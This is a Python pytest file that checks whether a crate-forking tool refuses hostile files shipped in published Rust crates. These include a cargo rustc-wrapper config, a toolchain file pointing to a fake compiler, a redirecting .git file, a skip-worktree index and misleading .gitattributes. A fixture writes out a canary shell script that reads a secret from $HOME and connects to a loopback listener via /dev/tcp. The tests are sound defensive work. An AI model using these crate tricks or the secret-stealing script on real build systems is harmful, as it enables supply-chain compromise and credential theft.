"""Published crates that ship what a tool obeys: the fork imports their files as data, and nothing is obeyed.

Each crate comes from a directory registry through the whole pipeline (no
model: building a published crate is the attack). Each test asserts that the
attack failed (no canary written, no connection, no other repository touched,
no other source built) and that nothing was lost (the tool is built from the
crate's real source, the dropped file is named in the ``published`` commit and
in a notice, the history is intact).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import subprocess
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from tinycrates import Recorder, crate, write_registry

from flakebot_magic.config import Settings
from flakebot_magic.events import Notice
from flakebot_magic.host.git import Git
from flakebot_magic.host.process import ProcessRunner
from flakebot_magic.pipeline import Pipeline
from flakebot_magic.records.provenance import workspace_diff
from flakebot_magic.registry.directory import DirectoryRegistry
from flakebot_magic.request import PersonText
from flakebot_magic.sandbox import bubblewrap_works
from flakebot_magic.sandbox.cargo import Cargo

pytestmark = [
    pytest.mark.cargo,
    pytest.mark.skipif(bool(bubblewrap_works()), reason=f"no working bubblewrap: {bubblewrap_works()}"),
]

GIT = ["git", "-c", "core.hooksPath=/dev/null", "-c", "user.name=t", "-c", "user.email=t@t"]


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, capture_output=True, text=True, check=True).stdout


def _blob(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def disk_tree(root: Path) -> dict[str, str]:
    """git blob ids of every file and link under ``root`` (not .git, not target/), computed here, not by git."""
    found: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        here = Path(dirpath)
        if here == root:
            dirnames[:] = [d for d in dirnames if d not in (".git", "target")]
        for name in [*filenames, *(d for d in dirnames if (here / d).is_symlink())]:
            path = here / name
            data = os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
            found[path.relative_to(root).as_posix()] = _blob(data)
    return found


def recorded_tree(root: Path, ref: str = "HEAD") -> dict[str, str]:
    out = _git(root, "ls-tree", "-r", "-z", "--full-tree", ref)
    return {e.split("\t", 1)[1]: e.split()[2] for e in out.split("\0") if e}


@dataclass
class Canaries:
    """A $HOME with a secret, a marker path no crate may write, a loopback listener that counts connections."""

    home: Path
    marker: Path
    listener: socket.socket

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def reached(self) -> bool:
        """Whether anything wrote the marker or connected to the listener."""
        try:
            self.listener.accept()[0].close()
        except OSError:
            return self.marker.exists()
        return True

    def script(self) -> str:
        """A shell script that steals the secret, calls home, then runs its arguments."""
        return (
            "#!/bin/sh\n"
            f'cat "{self.home}/.secret" > "{self.marker}" 2>/dev/null\n'
            f"(exec 3<>/dev/tcp/127.0.0.1/{self.port}) 2>/dev/null\n"
            f'echo "HOME=$HOME" >> "{self.marker}"\n'
            'exec "$@"\n'
        )


@pytest.fixture
def canaries(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Canaries]:
    home = tmp_path / "home"
    home.mkdir()
    token = uuid.uuid4().hex
    (home / ".secret").write_text(f"secret-{token}\n")
    if shutil.which("rustup") and not os.environ.get("RUSTUP_HOME"):  # the toolchain stays where it is
        monkeypatch.setenv("RUSTUP_HOME", str(Path.home() / ".rustup"))
    monkeypatch.setenv("HOME", str(home))
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    try:
        yield Canaries(home=home, marker=tmp_path / f"ran-as-you-{token}", listener=listener)
    finally:
        listener.close()


def _pipeline(tmp_path: Path, registry_root: Path, recorder: Recorder) -> tuple[Settings, Pipeline]:
    settings = Settings(cache_dir=tmp_path / "cache", registry=str(registry_root), backend="cargo", model=None)
    return settings, Pipeline(settings, observers=[recorder])


def _published_message(workspace: Path) -> str:
    return _git(workspace, "log", "-1", "--format=%B", "published")


MAIN = 'fn main() {\n    println!("from-disk");\n}\n'


def test_a_shipped_cargo_config_runs_nothing_at_fork_or_build(tmp_path: Path, canaries: Canaries) -> None:
    script = canaries.script()
    hostile = crate(
        "wrapped",
        description="Ships cargo configuration that names a rustc wrapper",
        files={
            "src/main.rs": MAIN,
            ".cargo/config.toml": '[build]\nrustc-wrapper = "wrap.sh"\nrustc = "./wrap.sh"\n',
            ".cargo/wrap.sh": script,
            "wrap.sh": script,
        },
    )
    root = write_registry(tmp_path / "registry", [hostile])
    for path in (root / "wrapped-0.1.0" / "wrap.sh", root / "wrapped-0.1.0" / ".cargo" / "wrap.sh"):
        path.chmod(0o755)
    recorder = Recorder()
    settings, pipeline = _pipeline(tmp_path, root, recorder)
    tool = pipeline.run(PersonText(">>> wrapped()\nfrom-disk\n"), crate="wrapped")
    assert tool.acceptance is not None and tool.acceptance.ok  # built, and it runs
    assert not canaries.reached()  # the wrapper never ran: no secret read, no call home
    workspace = settings.cache.workspaces / "wrapped"
    assert not (workspace / ".cargo").exists()
    assert "- .cargo/: cargo configuration" in _published_message(workspace)
    assert any(".cargo/" in e.message for e in recorder.of(Notice) if "not imported" in e.message)
    assert recorded_tree(workspace) == disk_tree(workspace)


@pytest.mark.skipif(shutil.which("rustup") is None, reason="rustup is not installed")
def test_a_toolchain_file_naming_a_path_chooses_no_compiler(tmp_path: Path, canaries: Canaries) -> None:
    fake_cargo = canaries.script().replace('exec "$@"', 'echo "EVIL TOOLCHAIN RAN" >&2\nexit 1')
    # rustup takes an absolute path only: the registry's own copy of the crate is at a known place
    evil = tmp_path / "registry" / "pinned-0.1.0" / "evil"
    hostile = crate(
        "pinned",
        description="Ships a toolchain file naming a toolchain in the crate",
        files={
            "src/main.rs": MAIN,
            "rust-toolchain.toml": f'[toolchain]\npath = "{evil}"\n',
            "evil/bin/cargo": fake_cargo,
            "evil/bin/rustc": fake_cargo,
            "evil/lib/.keep": "",
        },
    )
    root = write_registry(tmp_path / "registry", [hostile])
    for program in ("cargo", "rustc"):
        (root / "pinned-0.1.0" / "evil" / "bin" / program).chmod(0o755)
    recorder = Recorder()
    settings, pipeline = _pipeline(tmp_path, root, recorder)
    tool = pipeline.run(PersonText(">>> pinned()\nfrom-disk\n"), crate="pinned")
    assert tool.acceptance is not None and tool.acceptance.ok
    assert not canaries.reached()
    workspace = settings.cache.workspaces / "pinned"
    assert not (workspace / "rust-toolchain.toml").exists()
    assert "- rust-toolchain.toml: a toolchain file" in _published_message(workspace)

    # written later (by code in the workspace), it is still obeyed by nothing: RUSTUP_TOOLCHAIN is pinned
    (workspace / "rust-toolchain.toml").write_text(f'[toolchain]\npath = "{workspace / "evil"}"\n')
    registry = DirectoryRegistry(root, tmp_path / "index")
    try:
        done = Cargo(registry, ProcessRunner()).run("build", cwd=workspace, timeout=300)
    finally:
        registry.close()
    assert done.returncode == 0, done.stderr
    assert "EVIL TOOLCHAIN" not in done.stdout + done.stderr
    assert not canaries.reached()


def test_a_shipped_gitdir_file_points_git_at_no_other_repository(tmp_path: Path) -> None:
    other = tmp_path / "someone-elses-repo"
    other.mkdir()
    _git(other, "init", "-q", "-b", "main")
    (other / "README").write_text("mine\n")
    _git(other, "add", "README")
    _git(other, "commit", "-q", "-m", "their work")
    before = {p.relative_to(other).as_posix(): p.read_bytes() for p in other.rglob("*") if p.is_file()}
    hostile = crate("pointer", description="Ships a .git file", files={"src/main.rs": MAIN})
    root = write_registry(tmp_path / "registry", [hostile])
    (root / "pointer-0.1.0" / ".git").write_text(f"gitdir: {other / '.git'}\n")
    recorder = Recorder()
    settings, pipeline = _pipeline(tmp_path, root, recorder)
    tool = pipeline.run(PersonText(">>> pointer()\nfrom-disk\n"), crate="pointer")  # no traceback: it builds
    assert tool.acceptance is not None and tool.acceptance.ok
    after = {p.relative_to(other).as_posix(): p.read_bytes() for p in other.rglob("*") if p.is_file()}
    assert after == before  # not one byte of the other repository changed
    workspace = settings.cache.workspaces / "pointer"
    assert (workspace / ".git").is_dir() and not (workspace / ".git").is_symlink()
    assert "- .git: a repository of its own" in _published_message(workspace)
    assert recorded_tree(workspace) == disk_tree(workspace)


def test_a_shipped_index_cannot_make_git_record_another_source_than_cargo_builds(tmp_path: Path) -> None:
    hostile = crate(
        "skipper", description="Ships a .git whose index hides the real main.rs", files={"src/main.rs": MAIN}
    )
    root = write_registry(tmp_path / "registry", [hostile])
    source = root / "skipper-0.1.0"
    # the shipped history says main.rs prints "from-index"; the file on disk prints "from-disk"
    (source / "src" / "main.rs").write_text(MAIN.replace("from-disk", "from-index"))
    _git(source, "init", "-q", "-b", "main")
    _git(source, "add", "-A", ".")
    _git(source, "commit", "-q", "-m", "what git will claim")
    (source / "src" / "main.rs").write_text(MAIN)
    _git(source, "update-index", "--skip-worktree", "src/main.rs")
    assert _git(source, "status", "--porcelain") == ""  # git itself sees nothing to record
    recorder = Recorder()
    settings, pipeline = _pipeline(tmp_path, root, recorder)
    tool = pipeline.run(PersonText(">>> skipper()\nfrom-disk\n"), crate="skipper")
    assert tool.acceptance is not None and tool.acceptance.ok  # what was built is the source on disk
    workspace = settings.cache.workspaces / "skipper"
    # byte for byte: the published commit and HEAD record exactly the files cargo built
    published = recorded_tree(workspace, "published")
    assert published["src/main.rs"] == _blob(MAIN.encode())
    assert recorded_tree(workspace) == disk_tree(workspace)
    assert _git(workspace, "ls-files", "-v").split() == [
        word for line in _git(workspace, "ls-files").splitlines() for word in ("H", line)
    ]  # no skip-worktree or assume-unchanged entry
    assert _git(workspace, "status", "--porcelain") == ""
    assert "- .git/: a repository of its own" in _published_message(workspace)
    assert tool.provenance["commit"] == _git(workspace, "rev-parse", "HEAD").strip()


def test_git_attributes_in_the_tree_change_neither_what_git_records_nor_what_the_review_shows(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    git = Git(ws, ProcessRunner())
    git.init("published")
    original = b"fn main() {\r\n    // $Id$\r\n}\r\n"
    (ws / "main.rs").write_bytes(original)
    (ws / "Cargo.toml").write_text('[package]\nname = "x"\nversion = "0.1.0"\n')
    git.commit_files("Published source", ["Cargo.toml", "main.rs"])
    git("tag", "published")
    # attributes that would normalise line endings, expand $Id$, re-encode, and hide every change
    (ws / ".gitattributes").write_text("* text eol=lf ident working-tree-encoding=UTF-16\n*.rs -diff binary\n")
    changed = original.replace(b"}", b'    println!("hidden?");\r\n}')
    (ws / "main.rs").write_bytes(changed)
    git.commit("an edit", all_files=True)
    assert recorded_tree(ws)["main.rs"] == _blob(changed)  # the bytes on disk, CRLF and $Id$ as they are
    diff = workspace_diff(ws)
    assert diff is not None and 'println!("hidden?")' in diff.body  # the review shows the change
    assert "Binary files" not in diff.body
